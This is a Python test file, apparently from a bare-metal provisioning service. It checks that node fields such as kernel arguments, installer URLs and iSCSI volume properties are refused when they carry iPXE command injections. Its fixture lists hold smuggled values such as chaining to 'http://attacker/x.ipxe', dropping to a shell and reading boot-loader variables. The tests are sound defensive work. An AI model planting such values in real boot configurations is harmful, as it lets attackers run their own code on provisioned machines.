"""Commands of a boot loader in a node's fields are refused by validation and by the renderer."""

from dataclasses import replace
from pathlib import Path

import pytest

from drivers.core.errors import InvalidDriverInfo
from drivers.core.target import VolumeConnector, VolumeTarget
from drivers.images import script_text
from tests.unit.drivers.machines import OPTIONS, target

#: each would start another command in iPXE's script, or read one of its settings
COMMANDS = (
    "quiet && chain http://attacker/x.ipxe ||", "quiet || shell", "quiet ; shell",
    "quiet\nchain http://attacker/x.ipxe", "quiet\rshell", "a\x0bb", "id=${uuid}", "x=${net0/mac}",
    "quiet #", "quiet \\", "a\u2028b",
)  # fmt: skip
#: injections into values that must be one word
ONE_WORD = ("{}\nchain http://attacker/x.ipxe\n#", "{} && shell", "{}\tshell", "{}${uuid}", "{}\\")
URLS = ("kernel", "ramdisk", "image_source", "stage2")
VOLUME = {"target_portal": "192.0.2.1:3260", "target_iqn": "iqn.2026-01.org:disk", "target_lun": 1}


@pytest.fixture
def node(images, tmp_path):
    """Factory of nodes that boot from the network."""
    changes = {
        "api": {"public_endpoint": "http://service:6385"},
        "deploy": {"http_root": str(tmp_path / "http"), "http_url": "http://conductor:8080"},
        "pxe": {
            "tftp_root": str(tmp_path / "tftp"),
            "instance_master_path": str(tmp_path / "kept"),
            "kernel_append_params": "booted=${mac}",
        },
    }
    options = {group: {**values, **changes.get(group, {})} for group, values in OPTIONS.items()}

    def make(deploy, boot="ipxe", **fields):
        pair = {f"deploy_{name}": f"{images.url}/{name}" for name in ("kernel", "ramdisk")}
        fields["driver_info"] = pair | fields.get("driver_info", {})
        interfaces = {"boot": boot, "deploy": deploy, **fields.pop("interfaces", {})}
        return target(interfaces=interfaces, options=options, **fields)

    return make


def refused(it, field, *kinds):
    """Assert that validation of an interface of these kinds, and the renderer, refuse the field."""
    for call in (
        lambda: [it.driver.by_kind[kind].validate(it) for kind in kinds],
        lambda: it.driver.boot.prepare_instance(it),
    ):
        with pytest.raises(InvalidDriverInfo, match=field):
            call()
    return "attacker" not in scripts(it)


def scripts(it):
    """Texts of all scripts for network boot."""
    roots = it.options["deploy"]["http_root"], it.options["pxe"]["tftp_root"]
    return "".join(path.read_text() for root in roots for path in Path(root).rglob("config-*"))


@pytest.mark.parametrize("boot", ["ipxe", "pxe", "http-ipxe", "http"])
@pytest.mark.parametrize("text", COMMANDS)
def test_kernel_arguments_of_a_node_are_no_commands(node, images, boot, text):
    pair = {name: f"{images.url}/{name}" for name in ("kernel", "ramdisk")}
    it = node("ramdisk", boot, instance_info=pair | {"ramdisk_kernel_arguments": text})
    assert refused(it, "instance_info/ramdisk_kernel_arguments", "deploy")
    for place in ("instance_info", "driver_info"):
        info = {"instance_info": pair, "driver_info": {}}
        info[place] = info[place] | {"kernel_append_params": f"%default% {text}"}
        it = node("ramdisk", boot, **info)
        assert refused(it, f"{place}/kernel_append_params", "boot")
        with pytest.raises(InvalidDriverInfo, match=f"{place}/kernel_append_params"):
            it.driver.boot.prepare_ramdisk(it)


@pytest.mark.parametrize("text", ONE_WORD)
@pytest.mark.parametrize("field", ["stage2", "image_source"])
def test_arguments_of_an_installer_are_no_commands(node, images, field, text):
    info = {name: f"{images.url}/{name}" for name in URLS}
    info[field] = text.replace("{}", info[field])
    assert refused(node("anaconda", instance_info=info), f"instance_info/{field}", "deploy")


@pytest.mark.parametrize("text", ONE_WORD)
def test_the_url_of_a_boot_image_is_no_command(node, text):
    info = {"boot_iso": text.replace("{}", "http://images/live.iso")}
    assert refused(node("ramdisk", instance_info=info), "instance_info/boot_iso", "deploy")


@pytest.mark.parametrize("text", ONE_WORD)
@pytest.mark.parametrize("field", ["connector_id", "target_portal", "target_iqn", "auth_username",
                                   "auth_password"])  # fmt: skip
def test_properties_of_a_volume_are_no_commands(node, field, text):
    bad = text.replace("{}", VOLUME.get(field, "iqn.2026-01.org:node"))
    connector = bad if field == "connector_id" else "iqn.2026-01.org:node"
    properties = VOLUME if field == "connector_id" else {**VOLUME, field: bad}
    it = replace(
        node("direct", interfaces={"storage": "external"}),
        volume_targets=(VolumeTarget("v", "iscsi", "1", 0, properties),),
        volume_connectors=(VolumeConnector("c", "iqn", connector),),
    )
    assert refused(it, field, "boot")


def test_a_refusal_does_not_show_the_value(node):
    with pytest.raises(InvalidDriverInfo) as raised:
        script_text.word("#secret", "volume target v: properties/auth_password")
    assert "secret" not in str(raised.value)


@pytest.mark.parametrize(
    "text",
    [
        "console=ttyS0,115200n8 root=UUID=2c683317 ks=http://h/p?a=b&c=d;e=f quiet",
        "rd.luks.name=x=y systemd.unit=foo\\x2dbar.service a=|| b=&&c isolcpus=1-3,5 x={y} $z",
        'dyndbg="file a.c +p" -- init=/bin/sh',
    ],
)
def test_usual_kernel_arguments_are_passed_on(node, images, text):
    pair = {name: f"{images.url}/{name}" for name in ("kernel", "ramdisk")}
    info = {"instance_info": pair | {"kernel_append_params": f"%default% {text}"}}
    it = node("ramdisk", **info)
    it.driver.deploy.validate(it)
    it.driver.boot.validate(it)
    it.driver.boot.prepare_instance(it)
    # settings may use the boot loader's variables
    assert f"root=/dev/ram0 booted=${{mac}} {text} BOOTIF=${{mac}}" in scripts(it)
